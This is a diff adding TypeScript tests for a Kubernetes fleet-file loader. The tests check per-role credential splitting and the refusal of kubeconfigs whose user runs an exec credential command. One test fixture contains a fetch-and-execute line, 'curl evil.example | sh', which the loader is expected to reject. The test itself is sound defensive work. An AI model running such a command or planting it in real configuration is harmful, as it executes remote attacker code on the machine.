@@ -191,4 +191,84 @@ describe("loadFleetFile", () => {
     expect(after["eu"]).toBe(before["eu"]);
     expect(after["us"]).not.toBe(before["us"]);
   });
+
+  it("connects each role with its own credentials when the entry splits them", async () => {
+    await writeFile(
+      join(dir, "kubeconfigs", "read.yaml"),
+      renderKubeconfig({ prod: { server: "https://prod:6443", token: "read-token" } }, "prod"),
+    );
+    await writeFile(
+      join(dir, "kubeconfigs", "write.yaml"),
+      renderKubeconfig({ prod: { server: "https://prod:6443", token: "write-token" } }, "prod"),
+    );
+    await writeFleet([
+      "clusters:",
+      "  - name: prod",
+      "    credentials:",
+      "      watcher: { kubeconfig: kubeconfigs/read.yaml }",
+      "      applier: { kubeconfig: kubeconfigs/write.yaml }",
+    ]);
+    const tokens: Record<string, string | undefined> = {};
+    for (const role of ["watcher", "applier"] as const) {
+      const result = await loadFleetFile(join(dir, "fleet.yaml"), undefined, { role });
+      if (!result.ok) throw new Error(JSON.stringify(result.problems));
+      expect(result.problems).toEqual([]);
+      expect(result.clusters[0]?.target.kubeconfigPath).toBe(
+        join(dir, "kubeconfigs", role === "watcher" ? "read.yaml" : "write.yaml"),
+      );
+      tokens[role] = result.clusters[0]?.connect().kubeConfig.getCurrentUser()?.token;
+    }
+    expect(tokens).toEqual({ watcher: "read-token", applier: "write-token" });
+  });
+
+  it("refuses a kubeconfig whose user runs a command, naming the cluster and the field, unless allowed", async () => {
+    const exec = {
+      apiVersion: "client.authentication.k8s.io/v1",
+      command: "/bin/sh",
+      args: ["-c", "curl evil.example | sh"],
+      interactiveMode: "Never",
+    };
+    await writeFile(
+      join(dir, "kubeconfigs", "exec.yaml"),
+      JSON.stringify({
+        apiVersion: "v1",
+        kind: "Config",
+        clusters: [{ name: "c", cluster: { server: "https://eks:443" } }],
+        users: [{ name: "aws", user: { exec } }],
+        contexts: [{ name: "eks", context: { cluster: "c", user: "aws" } }],
+        "current-context": "eks",
+      }),
+    );
+    await writeFleet([
+      "clusters:",
+      "  - { name: ok, kubeconfig: kubeconfigs/ok.yaml }",
+      "  - name: eks",
+      "    credentials:",
+      "      watcher: { kubeconfig: kubeconfigs/exec.yaml }",
+      "      applier: { kubeconfig: kubeconfigs/exec.yaml }",
+    ]);
+    await writeFile(
+      join(dir, "kubeconfigs", "ok.yaml"),
+      renderKubeconfig({ ok: { server: "https://ok:6443", token: "t" } }, "ok"),
+    );
+    const refused = await loadFleetFile(join(dir, "fleet.yaml"), undefined, { role: "watcher" });
+    if (!refused.ok) throw new Error(JSON.stringify(refused.problems));
+    expect(refused.clusters.map((c) => c.name)).toEqual(["ok"]);
+    expect(refused.problems).toEqual([
+      {
+        source: "file",
+        origin: join(dir, "fleet.yaml"),
+        path: "clusters[1].credentials.watcher.kubeconfig",
+        cluster: "eks",
+        message: `kubeconfig ${join(dir, "kubeconfigs", "exec.yaml")}: user "aws" of context "eks" runs a command for its credentials (users[].user.exec: /bin/sh), which fleet files may not do unless ALLOW_EXEC_KUBECONFIG=true; this cluster is skipped`,
+      },
+    ]);
+    const allowed = await loadFleetFile(join(dir, "fleet.yaml"), undefined, {
+      role: "watcher",
+      allowExecCredentials: true,
+    });
+    if (!allowed.ok) throw new Error(JSON.stringify(allowed.problems));
+    expect(allowed.clusters.map((c) => c.name)).toEqual(["ok", "eks"]);
+    expect(allowed.problems).toEqual([]);
+  });
 });
